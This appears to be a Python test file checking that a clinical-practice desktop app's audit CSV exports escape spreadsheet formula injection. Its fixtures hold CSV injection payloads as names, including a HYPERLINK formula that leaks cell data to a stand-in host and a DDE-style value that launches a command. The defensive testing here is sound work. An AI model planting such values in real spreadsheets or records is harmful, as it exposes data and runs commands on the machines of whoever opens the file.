"""No CSV the program writes can run a formula when opened in a spreadsheet.

Names come from people: a clinician or a case can be called anything, and a spreadsheet
program runs a cell that starts with = + - @ (or a tab or carriage return before one) as
a formula: a link that sends data away, or worse. Every CSV the program writes, read
back with the csv module, must have no cell starting that way, and must still hold the
text (after the apostrophe that makes a spreadsheet read it as text).
"""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from clarity_desktop.domain.records import CaseInput, CaseKind, PartnerInput
from clarity_desktop.services import audit, cases, practices
from tests.conftest import PASSPHRASE

Run = Callable[..., subprocess.CompletedProcess[str]]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CLINICIAN = '=HYPERLINK("https://example.org/?leak="&A2,"Open")'
CASE_NAMES = ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 Zoë & Łukasz", "+Ama Owusu")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A practice whose clinician and cases are named like formulas."""
    folder = tmp_path / "practice"
    opened, _ = practices.create_practice(folder, PASSPHRASE, PASSPHRASE, CLINICIAN, "")
    try:
        for name in CASE_NAMES:
            cases.create_case(
                opened.uow(),
                CaseInput(CaseKind.INDIVIDUAL, name, (PartnerInput("Ama Owusu"),)),
            )
    finally:
        opened.close()
    return folder


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formula_cells(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell.startswith(TRIGGERS)]


def test_the_audit_trail_csv_starts_no_formula(
    folder: Path, tmp_path: Path, run_program: Run
) -> None:
    out = tmp_path / "audit.csv"
    done = run_program("audit", "--data-dir", str(folder), "--csv", str(out), passphrase=PASSPHRASE)
    assert done.returncode == 0, done.stderr
    text = out.read_text(encoding="utf-8")
    assert formula_cells(text) == []
    written = cells(text)
    assert "'" + CLINICIAN in {c.split(", ")[0] for c in written}  # the actor, as text
    for name in CASE_NAMES:
        assert "'" + name in written
    assert "created" in written  # plain text is left as it is


def test_the_audit_csv_inside_a_records_export_starts_no_formula(
    folder: Path, tmp_path: Path, run_program: Run
) -> None:
    out = tmp_path / "case.zip"
    done = run_program(
        "export", "--data-dir", str(folder), "--case", "1", "--out", str(out), "--no-pdfs",
        passphrase=PASSPHRASE,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(out) as zf:
        text = zf.read("audit.csv").decode("utf-8")
    assert formula_cells(text) == []
    assert any(cell.startswith("'" + CLINICIAN) for cell in cells(text))


def test_the_window_audit_export_starts_no_formula(folder: Path, tmp_path: Path) -> None:
    opened = practices.unlock_practice(folder, PASSPHRASE)
    try:
        out = tmp_path / "from-the-window.csv"
        audit.export_csv(opened.uow(), audit.AuditFilter(), out)
    finally:
        opened.close()
    text = out.read_text(encoding="utf-8")
    assert formula_cells(text) == []
    assert "'" + CASE_NAMES[0] in cells(text)
